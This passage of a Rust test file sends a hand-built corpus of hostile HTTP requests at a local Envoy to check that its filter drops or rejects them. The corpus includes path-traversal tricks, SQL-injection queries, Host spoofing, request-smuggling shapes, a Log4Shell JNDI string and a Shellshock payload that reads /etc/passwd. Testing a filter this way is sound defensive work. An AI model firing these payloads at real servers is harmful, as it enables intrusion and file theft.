//! The hostile-request corpus: a few hundred hand-written and generated
//! requests, sent over raw TCP (HTTP/1.x) and HTTP/2 to one real Envoy with
//! drop444 and a rule set of presets, a host allowlist, path, method, header
//! and query rules. For every case the expected outcome must hold:
//!
//! - `Drop`: zero bytes, then the connection closes (the filter's drop);
//! - `Serve`: `200` with the route's body;
//! - `Reject`: Envoy's own codec answers with a 4xx before any filter runs
//!   (documented in docs/hardening.md; never a bypass, as long as it is not 200);
//! - `Blocked`: `Drop` or `Reject`, for requests whose fate depends on how
//!   strict Envoy's codec is: what matters is that they are never served.
//!
//! After the corpus Envoy must still serve, `/ready` must be 200, the filter's
//! drop counter must equal the drops seen on the wire, and Envoy's log must
//! show no panic, wasm failure, "envoy bug" or crash.

use std::io::{ErrorKind, Read, Write};
use std::time::{Duration, Instant};

use crate::envoy::{http_get, skip_if_external, Envoy};
use crate::wire::connect;
use crate::BODY;

const CONFIG: &str = r#"{
  "host": {"allow": ["example.com", "*.example.com", "localhost"]},
  "log": {"level": "off"},
  "rules": [
    {"name": "healthz", "action": "allow", "all": [
      {"field": "path", "exact": "/healthz"}, {"field": "method", "exact": "GET"}]},
    {"name": "scanners", "preset": "scanners"},
    {"name": "exploit-paths", "preset": "exploit-paths"},
    {"name": "admin", "field": "path", "prefix": "/admin", "case_insensitive": true},
    {"name": "methods", "field": "method", "in": ["TRACE", "TRACK", "CONNECT", "DEBUG"], "case_insensitive": true},
    {"name": "probe", "header": "x-probe", "exact": "evil"},
    {"name": "sqli", "query": "id", "regex": "union\\s+select", "case_insensitive": true},
    {"name": "ua-too-long", "header": "user-agent", "regex": "^[^,]{20000}"}
  ]
}"#;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Drop,
    Serve,
    Reject,
    Blocked,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Seen {
    /// Zero bytes, then FIN or RST.
    Dropped,
    /// Only an interim `1xx` response, then FIN or RST.
    InterimThenClosed,
    /// A complete response with this status (and whether the body is ours).
    Status(u16, bool),
    /// Bytes that are not a response, or a response cut short.
    Garbage(Vec<u8>),
    /// Nothing, and the connection stayed open.
    Hung,
}

struct Case {
    name: String,
    raw: Vec<u8>,
    expect: Expect,
}

fn case(name: impl Into<String>, raw: impl Into<Vec<u8>>, expect: Expect) -> Case {
    Case {
        name: name.into(),
        raw: raw.into(),
        expect,
    }
}

/// A request with the given request target, Host and extra header lines.
fn req(method: &str, target: &str, host: Option<&str>, extra: &[&str]) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\n");
    if let Some(host) = host {
        out.push_str(&format!("Host: {host}\r\n"));
    }
    for line in extra {
        out.push_str(line);
        out.push_str("\r\n");
    }
    out.push_str("\r\n");
    out.into_bytes()
}

fn get(target: &str, host: &str) -> Vec<u8> {
    req(
        "GET",
        target,
        Some(host),
        &["User-Agent: Mozilla/5.0", "Accept: */*"],
    )
}

fn with_bytes(head: &str, bytes: &[u8], tail: &str) -> Vec<u8> {
    let mut v = head.as_bytes().to_vec();
    v.extend_from_slice(bytes);
    v.extend_from_slice(tail.as_bytes());
    v
}

/// Parses one complete HTTP/1 response at the start of `buf`: (status,
/// length consumed, body).
fn parse_response(buf: &[u8]) -> Option<(u16, usize, Vec<u8>)> {
    let end = buf.windows(4).position(|w| w == b"\r\n\r\n")? + 4;
    let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
    let status = head.split_whitespace().nth(1)?.parse().ok()?;
    let length: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .map_or(Some(0), |v| v.trim().parse().ok())?;
    let body = buf.get(end..end + length)?.to_vec();
    Some((status, end + length, body))
}

/// Sends raw bytes on a fresh connection; reads one response or the close.
fn send(envoy: &Envoy, raw: &[u8]) -> Seen {
    let mut stream = connect(envoy.addr);
    // A peer that closes early may reset our write; what we read decides.
    let _ = stream.write_all(raw);
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    let mut interim = false;
    loop {
        if let Some((status, used, body)) = parse_response(&buf) {
            if (100..200).contains(&status) {
                interim = true;
                buf.drain(..used);
                continue;
            }
            return Seen::Status(status, body == BODY);
        }
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return if buf.is_empty() {
                Seen::Hung
            } else {
                Seen::Garbage(buf)
            };
        }
        stream.set_read_timeout(Some(left)).expect("timeout");
        let ended = |buf: Vec<u8>| match (buf.is_empty(), interim) {
            (true, false) => Seen::Dropped,
            (true, true) => Seen::InterimThenClosed,
            _ => Seen::Garbage(buf),
        };
        match stream.read(&mut chunk) {
            Ok(0) => return ended(buf),
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return if buf.is_empty() {
                    Seen::Hung
                } else {
                    Seen::Garbage(buf)
                };
            }
            Err(_) => return ended(buf),
        }
    }
}

fn holds(expect: Expect, seen: &Seen) -> bool {
    let reject = matches!(seen, Seen::Status(s, false) if (400..500).contains(s));
    match expect {
        Expect::Drop => *seen == Seen::Dropped,
        Expect::Serve => *seen == Seen::Status(200, true),
        Expect::Reject => reject,
        Expect::Blocked => *seen == Seen::Dropped || reject,
    }
}

/// Path spellings that all normalise to `/admin…` (or hit exploit-paths).
const ADMIN_PATHS: &[&str] = &[
    "/admin",
    "/ADMIN",
    "/Admin/x",
    "/admin/",
    "/admin?x=1",
    "//admin",
    "///admin//users",
    "/./admin",
    "/x/../admin",
    "/x/y/../../admin",
    "/../admin",
    "/../../../../admin",
    "/%61dmin",
    "/%41DMIN",
    "/%2e/admin",
    "/%2E%2E/admin",
    "/x/%2e%2e/admin",
    "/\\admin",
    "/x\\..\\admin",
    "/admin;jsessionid=1",
    "/admin%ff",
    "/%2561dmin",
    "/.env",
    "/x/../.git/config",
    "/%2e%67it/HEAD",
    "/wp-login.php",
    "/WP-LOGIN.PHP",
    "/x/..//phpmyadmin/",
    "/cgi-bin/test.cgi",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
];

/// `/admin` spellings the shipped HTTP connection manager answers itself with
/// a 400 before any filter runs (docs/path-safety.md): an encoded slash or
/// backslash (`path_with_escaped_slashes_action: REJECT_REQUEST`) or an
/// encoded NUL (`normalize_path`). Never routed, never forwarded.
const ENVOY_REJECTED_PATHS: &[&str] = &[
    "/x/%2E%2E%2Fadmin",
    "/x%2f..%2fadmin",
    "/%2fadmin",
    "/%5cadmin",
    "/admin%00",
];

/// Benign paths that merely look odd: must be served.
const BENIGN_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/docs/administrator-guide",
    "/x/admin",
    "/a%2",
    "/a%zz",
    "/%",
    "/healthz",
    "/static/app.js?v=1&id=union",
    "/search?q=union+select",
    "/?id=1",
    "/a/./b/../c",
    "/caf%C3%A9",
    "/%ff%fe",
];

const GOOD_HOSTS: &[&str] = &[
    "example.com",
    "EXAMPLE.COM",
    "www.example.com:10000",
    "a.b.Example.Com.",
    "localhost",
];

const BAD_HOSTS: &[&str] = &[
    "127.0.0.1",
    "127.0.0.1:10000",
    "10.0.0.1",
    "[::1]",
    "[::1]:80",
    "[::ffff:127.0.0.1]",
    "2130706433",
    "0x7f000001",
    "0x7f.1",
    "127.1",
    "017700000001",
    "evil.com",
    "example.com.evil.com",
    "examplexcom",
    "example.com:abc",
    "example.com:99999999",
    "a@example.com",
    "example.com@evil.com",
    "ex%61mple.com",
    "example..com",
    ".example.com",
    "example.com,evil.com",
    "*.example.com",
    "xn--exmple-cua.com",
    "localhost.evil",
    "very.long.label.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example.com",
];

const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "SQLMAP/1.0",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Fuzz Faster U Fool v2.1.0",
    "gobuster/3.6",
    "${jndi:ldap://x.example/a}",
    "() { :; }; echo; /bin/cat /etc/passwd",
];

const BENIGN_UAS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "",
];

fn corpus() -> Vec<Case> {
    use Expect::*;
    let mut cases = Vec::new();
    // Generated: path tricks × good hosts.
    for path in ADMIN_PATHS {
        for host in &GOOD_HOSTS[..3] {
            cases.push(case(
                format!("path {path} host {host}"),
                get(path, host),
                Drop,
            ));
        }
    }
    for path in ENVOY_REJECTED_PATHS {
        for host in &GOOD_HOSTS[..3] {
            cases.push(case(
                format!("path {path} host {host}"),
                get(path, host),
                Reject,
            ));
        }
    }
    for path in BENIGN_PATHS {
        for host in &GOOD_HOSTS[..2] {
            cases.push(case(
                format!("benign path {path} host {host}"),
                get(path, host),
                Serve,
            ));
        }
    }
    for host in GOOD_HOSTS {
        cases.push(case(format!("good host {host}"), get("/", host), Serve));
    }
    for host in BAD_HOSTS {
        for method in ["GET", "POST", "OPTIONS"] {
            cases.push(case(
                format!("{method} bad host {host}"),
                req(method, "/", Some(host), &["User-Agent: Mozilla/5.0"]),
                Drop,
            ));
        }
    }
    for ua in SCANNER_UAS {
        cases.push(case(
            format!("scanner UA {ua}"),
            req(
                "GET",
                "/",
                Some("example.com"),
                &[&format!("User-Agent: {ua}")],
            ),
            Drop,
        ));
    }
    for ua in BENIGN_UAS {
        cases.push(case(
            format!("benign UA {ua}"),
            req(
                "GET",
                "/",
                Some("example.com"),
                &[&format!("User-Agent: {ua}")],
            ),
            Serve,
        ));
    }
    for method in ["TRACE", "TRACK", "DEBUG", "trace", "Track"] {
        cases.push(case(
            format!("method {method}"),
            req(method, "/", Some("example.com"), &[]),
            Blocked,
        ));
    }
    for method in ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS"] {
        let raw = req(method, "/ok", Some("example.com"), &["Content-Length: 0"]);
        cases.push(case(format!("method {method}"), raw, Serve));
    }

    // Queries.
    for (query, expect) in [
        ("?id=1%20UNION%20SELECT%201", Drop),
        ("?id=1+union+select+1", Drop),
        ("?id=union%0Aselect", Drop),
        ("?id=UnIoN%09SeLeCt", Drop),
        ("?a=1&id=union+select&b=2", Drop),
        ("?id=fine&id=union+select", Drop),
        ("?%69d=union+select", Drop),
        ("?ID=union+select", Serve),
        ("?id=unionselect", Serve),
        ("?id=union%2Bselect", Serve),
        ("?xid=union+select", Serve),
    ] {
        cases.push(case(
            format!("query {query}"),
            get(&format!("/q{query}"), "example.com"),
            expect,
        ));
    }

    // Repeated and odd headers.
    let probe = |lines: &[&str], expect| {
        let mut extra = vec!["User-Agent: Mozilla/5.0"];
        extra.extend_from_slice(lines);
        case(
            format!("headers {lines:?}"),
            req("GET", "/", Some("example.com"), &extra),
            expect,
        )
    };
    cases.extend([
        probe(&["X-Probe: evil"], Drop),
        probe(&["X-Probe: fine", "X-Probe: evil"], Drop),
        probe(&["X-Probe: evil", "X-Probe: fine"], Drop),
        probe(&["X-Probe: fine, evil"], Drop),
        probe(&["x-probe: evil"], Drop),
        probe(&["X-PROBE:evil"], Drop),
        probe(&["X-Probe:   evil   "], Drop),
        probe(&["X-Probe: fine", "X-Other: 1", "X-Probe: evil"], Drop),
        probe(&["X-Probe: EVIL"], Serve),
        probe(&["X-Probe: evilish"], Serve),
        probe(&["X-Probe: fine"], Serve),
        probe(&["X-Probe:"], Serve),
        probe(&["User-Agent: sqlmap/1.0"], Drop),
        probe(&["X-Probe : evil"], Reject),
        // Envoy 1.40 accepts obs-fold and joins it with a space: the value is
        // `fine evil` for the filter and for the upstream alike, not `evil`.
        probe(&["X-Probe: fine", " evil"], Serve),
        probe(
            &["X-Probe: fine", " evil"].map(|l| {
                if l == " evil" {
                    "\tsqlmap"
                } else {
                    "User-Agent: x"
                }
            }),
            Drop,
        ),
        probe(&["User-Agent: Mozilla", "\tsqlmap"], Blocked),
        probe(&["X-Pr\u{0}obe: evil"], Reject),
    ]);
    cases.push(case(
        "host repeated: good then bad",
        req("GET", "/", Some("example.com"), &["Host: 127.0.0.1"]),
        Blocked,
    ));
    cases.push(case(
        "host repeated: bad then good",
        req("GET", "/", Some("evil.com"), &["Host: example.com"]),
        Blocked,
    ));
    cases.push(case(
        "host repeated: same twice",
        req("GET", "/", Some("example.com"), &["Host: example.com"]),
        Blocked,
    ));
    cases.push(case(
        "host missing (HTTP/1.1)",
        req("GET", "/", None, &[]),
        Reject,
    ));
    cases.push(case("host empty", req("GET", "/", Some(""), &[]), Drop));
    cases.push(case(
        "host with tab",
        b"GET / HTTP/1.1\r\nHost:\texample.com\t\r\n\r\n".to_vec(),
        Serve,
    ));
    cases.push(case(
        "host case header name",
        b"GET / HTTP/1.1\r\nhOsT: example.com\r\n\r\n".to_vec(),
        Serve,
    ));

    // Non-UTF-8, NUL, CR and LF in values.
    cases.extend([
        case(
            "UA non-UTF-8 benign",
            with_bytes(
                "GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla \u{0}",
                b"",
                "\r\n\r\n",
            ),
            Reject,
        ),
        case(
            "UA latin-1 bytes",
            with_bytes(
                "GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: caf",
                b"\xe9\xff\xfe",
                "\r\n\r\n",
            ),
            Serve,
        ),
        case(
            "UA sqlmap + non-UTF-8",
            with_bytes(
                "GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: ",
                b"\xff\xfesqlmap\x80",
                "\r\n\r\n",
            ),
            Drop,
        ),
        case(
            "probe evil + non-UTF-8 element",
            with_bytes(
                "GET / HTTP/1.1\r\nHost: example.com\r\nX-Probe: ",
                b"\xff\xfe, evil",
                "\r\n\r\n",
            ),
            Drop,
        ),
        case(
            "host non-UTF-8",
            with_bytes("GET / HTTP/1.1\r\nHost: ex", b"\xe4mple.com", "\r\n\r\n"),
            Blocked,
        ),
        case(
            "host NUL",
            with_bytes("GET / HTTP/1.1\r\nHost: example.com", b"\x00", "\r\n\r\n"),
            Blocked,
        ),
        case(
            "path NUL byte",
            with_bytes(
                "GET /admin",
                b"\x00",
                " HTTP/1.1\r\nHost: example.com\r\n\r\n",
            ),
            Blocked,
        ),
        case(
            "path raw high bytes",
            with_bytes(
                "GET /adm",
                b"\xffin",
                " HTTP/1.1\r\nHost: example.com\r\n\r\n",
            ),
            Blocked,
        ),
        // Envoy 1.40 keeps a bare CR inside the value: there is no X-Probe
        // header, for the filter or for Envoy (docs/hardening.md).
        case(
            "bare CR in value (header injection)",
            b"GET / HTTP/1.1\r\nHost: example.com\r\nX-A: a\rX-Probe: evil\r\n\r\n".to_vec(),
            Serve,
        ),
        case(
            "bare CR then sqlmap in UA",
            b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: a\rsqlmap\r\n\r\n".to_vec(),
            Drop,
        ),
        case(
            "fragment in target",
            get("/admin#frag", "example.com"),
            Blocked,
        ),
        case("space in host", get("/", "exa mple.com"), Blocked),
        case("slash in host", get("/", "example.com/"), Blocked),
        case(
            "bare LF line ends, admin",
            b"GET /admin HTTP/1.1\nHost: example.com\n\n".to_vec(),
            Blocked,
        ),
        case(
            "CRLF in request target",
            b"GET /ok\r\nX-Probe: evil HTTP/1.1\r\nHost: example.com\r\n\r\n".to_vec(),
            Blocked,
        ),
        case(
            "space in target",
            b"GET /ad min HTTP/1.1\r\nHost: example.com\r\n\r\n".to_vec(),
            Blocked,
        ),
        case(
            "tab before target",
            b"GET\t/admin HTTP/1.1\r\nHost: example.com\r\n\r\n".to_vec(),
            Blocked,
        ),
    ]);

    // Request-target forms, CONNECT, versions.
    cases.extend([
        case(
            "absolute-form, evil authority",
            req("GET", "http://evil.com/", Some("example.com"), &[]),
            Blocked,
        ),
        case(
            "absolute-form, admin path",
            req("GET", "http://example.com/admin", Some("example.com"), &[]),
            Drop,
        ),
        case(
            "absolute-form, ip authority",
            req("GET", "http://127.0.0.1/", Some("example.com"), &[]),
            Blocked,
        ),
        case(
            "absolute-form, good",
            req("GET", "http://example.com/ok", Some("example.com"), &[]),
            Serve,
        ),
        case(
            "absolute-form, https scheme",
            req("GET", "https://example.com/admin", Some("example.com"), &[]),
            Blocked,
        ),
        // Envoy drops the userinfo: `:authority` is example.com.
        case(
            "absolute-form with userinfo",
            req("GET", "http://a@example.com/", Some("example.com"), &[]),
            Serve,
        ),
        case(
            "absolute-form with userinfo, admin",
            req(
                "GET",
                "http://a@example.com/admin",
                Some("example.com"),
                &[],
            ),
            Drop,
        ),
        case(
            "asterisk-form OPTIONS",
            req("OPTIONS", "*", Some("example.com"), &[]),
            Blocked,
        ),
        case(
            "CONNECT",
            req("CONNECT", "example.com:443", Some("example.com:443"), &[]),
            Blocked,
        ),
        case(
            "CONNECT to ip",
            req("CONNECT", "127.0.0.1:22", Some("127.0.0.1:22"), &[]),
            Blocked,
        ),
        case(
            "HTTP/1.0",
            b"GET / HTTP/1.0\r\nHost: example.com\r\n\r\n".to_vec(),
            Reject,
        ),
        case(
            "HTTP/1.0 admin",
            b"GET /admin HTTP/1.0\r\nHost: example.com\r\n\r\n".to_vec(),
            Blocked,
        ),
        case("HTTP/0.9", b"GET /admin\r\n\r\n".to_vec(), Blocked),
        case(
            "HTTP/2.0 on HTTP/1 syntax",
            b"GET / HTTP/2.0\r\nHost: example.com\r\n\r\n".to_vec(),
            Blocked,
        ),
        case(
            "HTTP/1.2",
            b"GET /admin HTTP/1.2\r\nHost: example.com\r\n\r\n".to_vec(),
            Blocked,
        ),
        case(
            "garbage",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
            Blocked,
        ),
        case(
            "lower-case method get",
            req("get", "/admin", Some("example.com"), &[]),
            Blocked,
        ),
    ]);

    // Sizes near Envoy's limits (max_request_headers_kb 60, 100 headers).
    let filler = |n: usize| format!("X-Filler: {}", "f".repeat(n));
    cases.extend([
        case(
            "headers just under 60 KiB",
            req("GET", "/ok", Some("example.com"), &[&filler(58 * 1024)]),
            Serve,
        ),
        case(
            "headers just over 60 KiB",
            req("GET", "/ok", Some("example.com"), &[&filler(61 * 1024)]),
            Reject,
        ),
        case(
            "headers 200 KiB",
            req("GET", "/ok", Some("example.com"), &[&filler(200 * 1024)]),
            Reject,
        ),
        case(
            "UA 19 KiB benign",
            req(
                "GET",
                "/",
                Some("example.com"),
                &[&format!("User-Agent: {}", "m".repeat(19 * 1024))],
            ),
            Serve,
        ),
        case(
            "UA 30 KiB (ua-too-long)",
            req(
                "GET",
                "/",
                Some("example.com"),
                &[&format!("User-Agent: {}", "m".repeat(30 * 1024))],
            ),
            Drop,
        ),
        case(
            "UA 50 KiB ending in sqlmap",
            req(
                "GET",
                "/",
                Some("example.com"),
                &[&format!("User-Agent: {}sqlmap", "m,".repeat(25 * 1024))],
            ),
            Drop,
        ),
        case(
            "path 50 KiB then admin",
            get(
                &format!("/{}/../admin", "a".repeat(50 * 1024)),
                "example.com",
            ),
            Drop,
        ),
        case(
            "path 50 KiB of ../",
            get(&format!("{}/admin", "/..".repeat(16 * 1024)), "example.com"),
            Drop,
        ),
        case(
            "query 50 KiB then sqli",
            get(
                &format!("/q?{}id=union+select", "a=1&".repeat(12 * 1024)),
                "example.com",
            ),
            Drop,
        ),
    ]);
    let many = |n: usize| (0..n).map(|i| format!("X-H{i}: v")).collect::<Vec<_>>();
    let lines_98 = many(97);
    let refs: Vec<&str> = lines_98.iter().map(String::as_str).collect();
    cases.push(case(
        "98 headers",
        req("GET", "/ok", Some("example.com"), &refs),
        Serve,
    ));
    let mut with_probe = refs.clone();
    with_probe.push("X-Probe: evil");
    cases.push(case(
        "98 headers + probe",
        req("GET", "/ok", Some("example.com"), &with_probe),
        Drop,
    ));
    let lines_150 = many(150);
    let refs: Vec<&str> = lines_150.iter().map(String::as_str).collect();
    cases.push(case(
        "151 headers",
        req("GET", "/ok", Some("example.com"), &refs),
        Reject,
    ));
    let probes: Vec<String> = (0..90)
        .map(|i| format!("X-Probe: fine{i}"))
        .chain(["X-Probe: evil".into()])
        .collect();
    let refs: Vec<&str> = probes.iter().map(String::as_str).collect();
    cases.push(case(
        "91 repeated x-probe, last evil",
        req("GET", "/ok", Some("example.com"), &refs),
        Drop,
    ));

    // Body and framing tricks: the decision is on headers, so a body changes nothing.
    cases.extend([
        case(
            "POST admin with body",
            req(
                "POST",
                "/admin",
                Some("example.com"),
                &["Content-Length: 5"],
            )
            .into_iter()
            .chain(*b"hello")
            .collect::<Vec<u8>>(),
            Drop,
        ),
        case(
            "chunked admin",
            req(
                "POST",
                "/admin",
                Some("example.com"),
                &["Transfer-Encoding: chunked"],
            )
            .into_iter()
            .chain(*b"5\r\nhello\r\n0\r\n\r\n")
            .collect::<Vec<u8>>(),
            Drop,
        ),
        case(
            "CL + TE smuggling shape",
            req(
                "POST",
                "/ok",
                Some("example.com"),
                &["Content-Length: 4", "Transfer-Encoding: chunked"],
            )
            .into_iter()
            .chain(*b"0\r\n\r\n")
            .collect::<Vec<u8>>(),
            Blocked,
        ),
        case(
            "Expect 100-continue to admin",
            req(
                "POST",
                "/admin",
                Some("example.com"),
                &["Content-Length: 5", "Expect: 100-continue"],
            ),
            // The shipped configs set `proxy_100_continue: true`, so Envoy
            // does not answer `100 Continue` before the filter: 0 bytes.
            Drop,
        ),
        case(
            "Upgrade websocket to admin",
            req(
                "GET",
                "/admin",
                Some("example.com"),
                &["Connection: Upgrade", "Upgrade: websocket"],
            ),
            Blocked,
        ),
        case(
            "h2c upgrade to admin",
            req(
                "GET",
                "/admin",
                Some("example.com"),
                &[
                    "Connection: Upgrade, HTTP2-Settings",
                    "Upgrade: h2c",
                    "HTTP2-Settings: AAMAAABkAAQAAP__",
                ],
            ),
            Blocked,
        ),
    ]);
    cases
}

/// Pipelined requests: what comes back must be the responses of the allowed
/// requests before the first drop, then nothing and a close.
fn pipelined(envoy: &Envoy, requests: &[(&[u8], bool)]) -> Result<(), String> {
    let mut stream = connect(envoy.addr);
    let all: Vec<u8> = requests.iter().flat_map(|(r, _)| r.to_vec()).collect();
    let _ = stream.write_all(&all);
    let served_before_drop = requests.iter().take_while(|(_, ok)| *ok).count();
    let any_drop = requests.iter().any(|(_, ok)| !*ok);
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut closed = false;
    loop {
        if !any_drop && count_responses(&buf).0 >= served_before_drop {
            break;
        }
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            break;
        }
        stream.set_read_timeout(Some(left)).expect("timeout");
        match stream.read(&mut chunk) {
            Ok(0) => {
                closed = true;
                break;
            }
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
            Err(_) => {
                closed = true;
                break;
            }
        }
    }
    let (count, rest) = count_responses(&buf);
    // Envoy 1.40 answers at most two pipelined requests of a burst and then
    // closes (measured; not the filter: its drop counter proves it). What
    // must hold: only allowed requests are answered, none after a drop.
    let served_ok = count == served_before_drop || (!any_drop && count >= 2);
    if !served_ok || !rest.is_empty() || closed != any_drop && any_drop {
        return Err(format!(
            "{count} responses (want {served_before_drop}), closed {closed} (want {any_drop}), got {:?}",
            String::from_utf8_lossy(&buf)
        ));
    }
    Ok(())
}

fn count_responses(mut buf: &[u8]) -> (usize, &[u8]) {
    let mut n = 0;
    while let Some((status, used, body)) = parse_response(buf) {
        assert_eq!((status, body.as_slice()), (200, BODY), "pipelined response");
        n += 1;
        buf = &buf[used..];
    }
    (n, buf)
}

/// (name, URI, `host` header, `user-agent` bytes, expected).
type H2Case = (
    &'static str,
    &'static str,
    Option<&'static str>,
    Vec<u8>,
    Expect,
);

/// HTTP/2 cases: `:authority` against `Host`, pseudo-header tricks.
/// Returns (name, status or None for a reset, expected).
fn h2_cases(envoy: &Envoy) -> Vec<(String, Option<u16>, Expect)> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let cases: Vec<H2Case> = vec![
        (
            "h2 good",
            "http://example.com/",
            None,
            vec![],
            Expect::Serve,
        ),
        (
            "h2 ip authority",
            "http://127.0.0.1/",
            None,
            vec![],
            Expect::Drop,
        ),
        (
            "h2 evil authority, good Host",
            "http://evil.com/",
            Some("example.com"),
            vec![],
            Expect::Blocked,
        ),
        (
            "h2 ip authority, good Host",
            "http://10.0.0.1/",
            Some("example.com"),
            vec![],
            Expect::Blocked,
        ),
        (
            "h2 good authority, evil Host",
            "http://example.com/",
            Some("evil.com"),
            vec![],
            Expect::Serve,
        ),
        (
            "h2 good authority, ip Host",
            "http://example.com/",
            Some("127.0.0.1"),
            vec![],
            Expect::Serve,
        ),
        (
            "h2 admin path",
            "http://example.com/admin",
            None,
            vec![],
            Expect::Drop,
        ),
        (
            "h2 encoded admin path",
            "http://example.com/x/%2e%2e/%61dmin",
            None,
            vec![],
            Expect::Drop,
        ),
        (
            "h2 sqlmap non-UTF-8",
            "http://example.com/",
            None,
            b"\xffsqlmap\xfe".to_vec(),
            Expect::Drop,
        ),
        (
            "h2 benign non-UTF-8",
            "http://example.com/",
            None,
            b"\xff\xfe".to_vec(),
            Expect::Serve,
        ),
        (
            "h2 authority with userinfo",
            "http://user@example.com/",
            None,
            vec![],
            Expect::Blocked,
        ),
        (
            "h2 upper-case authority",
            "http://EXAMPLE.COM/",
            None,
            vec![],
            Expect::Serve,
        ),
    ];
    runtime.block_on(async {
        let mut out = Vec::new();
        for (name, uri, host, ua, expect) in cases {
            // A connection per case: a protocol error ends only its own.
            let tcp = tokio::net::TcpStream::connect(envoy.addr)
                .await
                .expect("connect");
            let (client, connection) = h2::client::handshake(tcp).await.expect("h2 handshake");
            tokio::spawn(connection);
            let mut builder = http::Request::get(uri);
            if let Some(host) = host {
                builder = builder.header("host", host);
            }
            if !ua.is_empty() {
                builder = builder.header(
                    "user-agent",
                    http::HeaderValue::from_bytes(&ua).expect("value"),
                );
            }
            let request = builder.body(()).expect("request");
            let mut client = client.ready().await.expect("connection usable");
            let seen = match client.send_request(request, true) {
                Err(e) => panic!("{name}: h2 client refused to send: {e}"),
                Ok((response, _)) => {
                    match tokio::time::timeout(Duration::from_secs(3), response).await {
                        Err(_) => panic!("{name}: no response and no reset"),
                        // Stream reset (the filter's drop) or connection error.
                        Ok(Err(e)) => {
                            println!("{name}: {e}");
                            None
                        }
                        Ok(Ok(resp)) => Some(resp.status().as_u16()),
                    }
                }
            };
            out.push((name.to_string(), seen, expect));
        }
        out
    })
}

#[test]
fn hostile_corpus_never_bypasses_and_envoy_stays_healthy() {
    if skip_if_external("counts drops and reads the log of an Envoy it owns") {
        return;
    }
    let envoy = Envoy::start(CONFIG);
    let started = Instant::now();
    let corpus = corpus();
    let mut failures = Vec::new();
    // Drops seen on the wire, and those the filter must have made: the
    // filter's counter has to lie between (Envoy closes a few malformed
    // connections silently itself, e.g. TLS bytes on a plaintext port).
    let mut drops = 0u64;
    let mut filter_drops = 0u64;
    let mut tally = std::collections::BTreeMap::new();
    for case in &corpus {
        let seen = send(&envoy, &case.raw);
        if matches!(seen, Seen::Dropped | Seen::InterimThenClosed) {
            drops += 1;
            if matches!(case.expect, Expect::Drop) {
                filter_drops += 1;
            }
        }
        let kind = match &seen {
            Seen::Dropped => "dropped".to_string(),
            Seen::InterimThenClosed => "100 then dropped".to_string(),
            Seen::Status(s, _) => format!("status {s}"),
            Seen::Garbage(_) => "garbage".into(),
            Seen::Hung => "hung".into(),
        };
        *tally.entry(kind).or_insert(0) += 1;
        if !holds(case.expect, &seen) {
            failures.push(format!(
                "{}: expected {:?}, saw {:?}",
                case.name, case.expect, seen
            ));
        }
    }

    // Pipelined: allowed and dropped requests on one connection.
    let ok = get("/ok", "example.com");
    let admin = get("/admin", "example.com");
    let ip = get("/", "127.0.0.1");
    let pipelines: Vec<Vec<(&[u8], bool)>> = vec![
        vec![(&ok, true), (&ok, true), (&ok, true)],
        vec![(&ok, true), (&admin, false), (&ok, true)],
        vec![(&ok, true), (&ok, true), (&ip, false)],
        vec![(&admin, false), (&ok, true)],
        vec![(&ok, true), (&ip, false), (&admin, false), (&ok, true)],
    ];
    for requests in &pipelines {
        if let Err(why) = pipelined(&envoy, requests) {
            failures.push(format!("pipelined {}: {why}", requests.len()));
        }
        if requests.iter().any(|(_, ok)| !ok) {
            drops += 1;
            filter_drops += 1;
        }
    }

    let mut h2_total = 0;
    for (name, seen, expect) in h2_cases(&envoy) {
        h2_total += 1;
        let good = match expect {
            Expect::Serve => seen == Some(200),
            Expect::Drop => seen.is_none(),
            Expect::Reject => seen.is_some_and(|s| s >= 400),
            Expect::Blocked => seen != Some(200),
        };
        if seen.is_none() {
            drops += 1;
            if expect == Expect::Drop {
                filter_drops += 1;
            }
        }
        if !good {
            failures.push(format!("{name}: expected {expect:?}, saw {seen:?}"));
        }
    }
    let total = corpus.len() + pipelines.len() + h2_total;
    println!(
        "hostile corpus: {total} cases ({} raw HTTP/1, {} pipelined, {h2_total} HTTP/2) in {:?}: {tally:?}",
        corpus.len(),
        pipelines.len(),
        started.elapsed()
    );
